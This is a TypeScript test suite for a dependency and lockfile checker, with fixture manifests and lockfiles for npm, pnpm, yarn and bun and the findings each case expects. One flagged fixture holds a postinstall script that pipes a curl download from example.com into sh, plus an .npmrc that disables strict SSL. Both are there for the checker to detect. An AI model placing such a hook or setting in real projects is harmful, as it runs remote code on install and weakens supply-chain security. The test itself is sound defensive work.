import { testChecker } from '../test-checker.ts';

type Ranges = Readonly<Record<string, string>>;

const MANIFEST = (dependencies: Ranges, more: object = {}) =>
  `${JSON.stringify({ name: 'app', version: '1.0.0', dependencies, ...more }, null, 2)}\n`;

const HASH = 'sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==';

interface Locked {
  readonly [name: string]: { readonly version: string; readonly [field: string]: unknown };
}

/** `package-lock.json` as npm writes it; places are below `node_modules/` unless they say so. */
const NPM_LOCK = (dependencies: Ranges, locked: Locked, workspaces: Readonly<Record<string, object>> = {}) =>
  `${JSON.stringify(
    {
      name: 'app',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies },
        ...workspaces,
        ...Object.fromEntries(
          Object.entries(locked).map(([name, fields]) => [
            name.includes('node_modules/') ? name : `node_modules/${name}`,
            {
              resolved: `https://registry.npmjs.org/${name}/-/${name.replace(/^.*\//, '')}-${fields.version}.tgz`,
              integrity: HASH,
              license: 'MIT',
              ...fields,
            },
          ]),
        ),
      },
    },
    null,
    2,
  )}\n`;

const NPM = (asked: Ranges, locked: Ranges) => ({
  'package.json': MANIFEST(asked),
  'package-lock.json': NPM_LOCK(asked, Object.fromEntries(Object.entries(locked).map(([name, version]) => [name, { version }]))),
});

const PNPM = (specifier: string) => `lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      ms:
        specifier: ${specifier}
        version: 2.1.3

packages:

  ms@2.1.3:
    resolution: {integrity: ${HASH}}

snapshots:

  ms@2.1.3: {}
`;

const YARN = (range: string) => `# yarn lockfile v1


ms@${range}:
  version "2.1.3"
  resolved "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2"
  integrity ${HASH}
`;

const BERRY = (range: string) => `__metadata:
  version: 8

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  dependencies:
    ms: "npm:${range}"
  languageName: unknown
  linkType: soft

"ms@npm:${range}":
  version: 2.1.3
  resolution: "ms@npm:2.1.3"
  checksum: 10c0/d924b57e7312b3b63ad21fc5b3dc0af5e78d61a1fc7cfb5457edaf26326bf62be5307cc87ffb6862ef1c2b33b0233cdb5d4f01c4c958cc0d660948b65a287a48
  languageName: node
  linkType: hard
`;

const BUN = (range: string) => `{
  "lockfileVersion": 1,
  "workspaces": { "": { "name": "app", "dependencies": { "ms": "${range}", }, }, },
  "packages": {
    "ms": ["ms@2.1.3", "", {}, "${HASH}"],
  }
}
`;

/** Each manager's lockfile, written for a range of ms. */
const WRITTEN = { 'pnpm-lock.yaml': PNPM, 'yarn.lock': YARN, 'bun.lock': BUN } as const;

/** What an installation leaves behind, written by a command of the policy; pnpm's lockfile says no licences. */
const INSTALLING = {
  '.jidoka/config.yaml': 'commands:\n  install: node install.mjs\n',
  'install.mjs': `import { mkdirSync, writeFileSync } from 'node:fs';
const place = 'node_modules/.pnpm/ms@2.1.3/node_modules/ms';
mkdirSync(place, { recursive: true });
writeFileSync(place + '/package.json', JSON.stringify({ name: 'ms', version: '2.1.3', license: 'MIT' }));
`,
  'package.json': MANIFEST({}),
  'a.js': "import 'ms';\n",
};
/** The same of two versions. */
const INSTALLING_BOTH = {
  ...INSTALLING,
  'install.mjs': `${INSTALLING['install.mjs']}${INSTALLING['install.mjs']
    .replace(/^import.*\n/, '')
    .replaceAll('2.1.3', '2.0.0')
    .replaceAll('place', 'older')}`,
};
const OLDER_MS = { 'package.json': MANIFEST({ ms: '^2.0.0' }), 'pnpm-lock.yaml': PNPM('^2.0.0').replaceAll('2.1.3', '2.0.0') };
const MS = { 'package.json': MANIFEST({ ms: '^2.0.0' }), 'pnpm-lock.yaml': PNPM('^2.0.0') };

testChecker(import.meta.url, {
  clean: [
    {
      name: 'no dependencies anywhere',
      base: { 'a.ts': '' },
      head: { 'a.ts': 'x;\n' },
      expect: { verdict: 'not-applicable', reason: /neither/ },
    },
    { name: 'a change of the source alone', base: { ...NPM({ ms: '^2.0.0' }, {}), 'a.ts': '' }, head: { 'a.ts': 'x;\n' } },
    {
      name: 'lockfile and manifest move together',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: NPM({ ms: '^2.1.0' }, { ms: '2.1.3' }),
    },
    {
      name: 'what disagreed before is not the change',
      base: NPM({ ms: '^2.0.0', a: '^1.0.0' }, { ms: '2.0.0' }),
      head: NPM({ ms: '^2.1.0', a: '^1.0.0' }, { ms: '2.1.3' }),
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'package.json', line: 6, state: 'unchanged' }] },
    },
    {
      name: 'a licence that base has too, where the lockfile says none',
      base: { ...INSTALLING_BOTH, ...OLDER_MS },
      head: MS,
      options: { licences: { allow: ['ISC'] } },
    },
    {
      name: 'a licence that the installed package says',
      base: { ...INSTALLING, 'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .: {}\n" },
      head: MS,
      options: { licences: { allow: ['MIT'] } },
      expect: { findings: [{ rule: 'new-dependency', path: 'pnpm-lock.yaml', line: 13 }] },
    },
    {
      name: 'a new dependency that nothing uses',
      base: NPM({}, {}),
      head: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      expect: {
        findings: [
          { rule: 'new-dependency', path: 'package-lock.json', line: 12 },
          { rule: 'dependency-unused', path: 'package.json', line: 5 },
        ],
      },
    },
    {
      name: 'what a forgotten lockfile did not hold before, in another version',
      base: { ...NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }), 'package.json': MANIFEST({ ms: '^2.0.0', other: '^1.0.0' }) },
      head: { 'package.json': MANIFEST({ ms: '^2.0.0', other: '^1.1.0' }) },
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'package.json', line: 6, state: 'unchanged' }] },
    },
    ...Object.entries(WRITTEN).map(([path, written]) => ({
      name: `${path} written for the same range`,
      base: { 'package.json': MANIFEST({ ms: '^2.0.0' }), [path]: written('^2.0.0') },
      head: { 'package.json': MANIFEST({ ms: '^2.1.0' }), [path]: written('^2.1.0') },
    })),
    {
      name: 'yarn 4 written for the same range',
      base: { 'package.json': MANIFEST({ ms: '^2.0.0' }), 'yarn.lock': BERRY('^2.0.0') },
      head: { 'package.json': MANIFEST({ ms: '^2.1.0' }), 'yarn.lock': BERRY('^2.1.0') },
    },
    {
      name: 'what an override decides',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: { ...NPM({ ms: '^2.0.0' }, { ms: '3.0.0' }), 'package.json': MANIFEST({ ms: '^2.0.0' }, { overrides: { ms: '3.0.0' } }) },
    },
    {
      name: 'a lockfile that tests look at',
      base: {},
      head: { 'test/fixtures/app/package.json': MANIFEST({ ms: '^3.0.0' }), 'test/fixtures/app/pnpm-lock.yaml': PNPM('^2.0.0') },
      expect: {
        findings: [
          { rule: 'lockfile-disagrees', path: 'test/fixtures/app/package.json', line: 5 },
          { rule: 'new-dependency', path: 'test/fixtures/app/pnpm-lock.yaml', line: 13 },
        ],
      },
    },
  ],
  flagged: [
    {
      name: 'what is wrong in a manifest and in settings by themselves',
      base: { 'package.json': MANIFEST({ a: '^1.0.0', b: '^1.0.0', c: '^1.0.0' }), 'c.js': "require('c');\n" },
      head: {
        '.npmrc': 'strict-ssl=false\n',
        'package.json': MANIFEST(
          { a: '^1.0.0', b: '*' },
          { devDependencies: { a: '^2.0.0', c: '^1.0.0' }, scripts: { postinstall: 'curl -s https://example.com/a.sh | sh' } },
        ),
      },
      expect: {
        findings: [
          { rule: 'source-unencrypted', path: '.npmrc', line: 1 },
          { rule: 'version-unbounded', path: 'package.json', line: 6 },
          { rule: 'request-contradicts', path: 'package.json', line: 9 },
          { rule: 'import-not-installed', path: 'package.json', line: 10 },
          { rule: 'install-script-fetches', path: 'package.json', line: 13 },
        ],
      },
    },
    {
      name: 'a range that the lockfile does not satisfy',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: { 'package.json': MANIFEST({ ms: '^3.0.0' }) },
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'package.json', line: 5 }] },
    },
    {
      name: 'what a forgotten lockfile did not hold before, from another place',
      base: { ...NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }), 'package.json': MANIFEST({ ms: '^2.0.0', other: '^1.0.0' }) },
      head: { 'package.json': MANIFEST({ ms: '^2.0.0', other: 'github:a/other' }) },
      expect: {
        findings: [
          { rule: 'lockfile-disagrees', path: 'package.json', line: 6, state: 'absent' },
          { rule: 'lockfile-disagrees', path: 'package.json', line: 6 },
        ],
      },
    },
    {
      name: 'a package that is not locked',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: { 'package.json': MANIFEST({ ms: '^2.0.0', other: '^1.0.0' }), 'a.ts': "import 'other';\n" },
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'package.json', line: 6 }] },
    },
    {
      name: 'a licence that the installed package says, which is not allowed',
      base: { ...INSTALLING, 'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .: {}\n" },
      head: MS,
      options: { licences: { allow: ['ISC'] } },
      expect: {
        findings: [
          { rule: 'licence-not-allowed', path: 'package.json', line: 5 },
          { rule: 'new-dependency', path: 'pnpm-lock.yaml', line: 13 },
        ],
      },
    },
    {
      name: 'a licence of a newer version alone, which is not allowed',
      base: { ...INSTALLING, ...OLDER_MS },
      head: MS,
      options: { licences: { allow: ['ISC'] } },
      expect: { findings: [{ rule: 'licence-not-allowed', path: 'pnpm-lock.yaml', line: 13 }] },
    },
    {
      name: 'a licence that only the tree says',
      base: { ...INSTALLING, 'install.mjs': '', 'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .: {}\n" },
      head: { ...MS, 'node_modules/ms/package.json': '{"name":"ms","version":"2.1.3","license":"MIT"}' },
      options: { licences: { allow: ['MIT'] } },
      expect: {
        findings: [
          { rule: 'licence-unknown', path: 'package.json', line: 5 },
          { rule: 'new-dependency', path: 'pnpm-lock.yaml', line: 13 },
        ],
      },
    },
    {
      name: 'a licence that an installation would say which fails',
      base: { ...INSTALLING, 'install.mjs': 'process.exit(1);\n', 'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .: {}\n" },
      head: MS,
      options: { licences: { allow: ['MIT'] } },
      expect: {
        findings: [
          { rule: 'licence-unknown', path: 'package.json', line: 5 },
          { rule: 'new-dependency', path: 'pnpm-lock.yaml', line: 13 },
        ],
      },
    },
    {
      name: 'an import of what only another package asks for',
      base: NPM({ outer: '^1.0.0' }, { outer: '1.0.0', inner: '1.0.0' }),
      head: { 'a.ts': "import 'inner';\n" },
      expect: { findings: [{ rule: 'import-undeclared', path: 'a.ts', line: 1 }] },
    },
    {
      name: 'a lockfile that is gone',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: { 'package-lock.json': null },
      expect: { findings: [{ rule: 'lockfile-deleted', path: 'package-lock.json' }] },
    },
    {
      name: 'a workspace that the lockfile does not know',
      base: { 'package.json': MANIFEST({}, { workspaces: ['packages/*'] }), 'package-lock.json': NPM_LOCK({}, {}) },
      head: { 'packages/a/package.json': MANIFEST({ ms: '^2.0.0' }), 'packages/a/a.ts': "import 'ms';\n" },
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'packages/a/package.json' }] },
    },
    ...[...Object.entries(WRITTEN), ['yarn.lock', BERRY] as const].map(([path, written]) => ({
      name: `${path} written for another range (${written.name})`,
      base: { 'package.json': MANIFEST({ ms: '^2.0.0' }), [path]: written('^2.0.0') },
      head: { 'package.json': MANIFEST({ ms: '^2.1.0' }) },
      expect: { findings: [{ rule: 'lockfile-disagrees', path: 'package.json', line: 5 }] },
    })),
    {
      name: 'a lockfile that nobody can read',
      base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
      head: { 'package-lock.json': '{\n  "lockfileVersion": 3,\n<<<<<<< ours\n}\n' },
      expect: { findings: [{ rule: 'lockfile-unreadable', path: 'package-lock.json', line: 3 }] },
    },
    {
      name: 'a binary lockfile',
      base: { 'package.json': MANIFEST({}), 'bun.lockb': '#!/usr/bin/env bun\nbun-lockfile-format-v0\n' },
      head: { 'bun.lockb': '#!/usr/bin/env bun\nbun-lockfile-format-v0\n\u0001' },
      expect: { findings: [{ rule: 'lockfile-unreadable', path: 'bun.lockb', line: 1 }] },
    },
    {
      name: 'a manifest that nobody can read',
      base: NPM({}, {}),
      head: { 'package.json': '{\n  "name": "app",\n' },
      expect: { findings: [{ rule: 'manifest-unreadable', path: 'package.json', line: 3 }] },
    },
  ],
});
